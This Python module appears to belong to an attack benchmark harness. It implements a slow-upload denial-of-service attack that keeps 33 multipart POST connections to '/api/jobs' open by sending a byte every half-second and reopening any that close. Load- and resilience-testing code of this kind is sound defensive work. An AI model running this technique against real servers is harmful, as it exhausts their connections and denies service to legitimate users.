"""Uploads that come a byte at a time."""

from __future__ import annotations

import contextlib
import socket

from benchmarks.attacks.attack import Attack, Signals, Where

COUNT = 33
EVERY_S = 0.5
BOUNDARY = "slow-upload"


def slow(where: Where, signals: Signals) -> None:
    """Keep 33 uploads open that send two bytes a second; each that was ended is begun again."""
    count = 3 if where.smoke else COUNT
    held: list[socket.socket] = []
    while not signals.stop.is_set():
        held = [each for each in held if _goes_on(each)]
        while len(held) < count:
            held.append(_begun(where))
        signals.begun.set()
        signals.stop.wait(EVERY_S)
    for each in held:
        each.close()


def _begun(where: Where) -> socket.socket:
    kind = f"Content-Type: multipart/form-data; boundary={BOUNDARY}"
    head = where.head("POST /api/jobs", kind, "Content-Length: 1000000")
    disposition = 'Content-Disposition: form-data; name="file"; filename="a.csv"'
    connection = where.connect()
    connection.sendall(head + f"--{BOUNDARY}\r\n{disposition}\r\n\r\nid\n".encode())
    connection.settimeout(0.0)
    return connection


def _goes_on(connection: socket.socket) -> bool:
    with contextlib.suppress(BlockingIOError):
        try:
            if connection.recv(4_096):
                connection.close()
                return False
        except BlockingIOError:
            connection.send(b"x")
            return True
        except OSError:
            pass
        connection.close()
        return False
    return True


ATTACKS = (Attack("uploads-slow", "SM7", slow),)
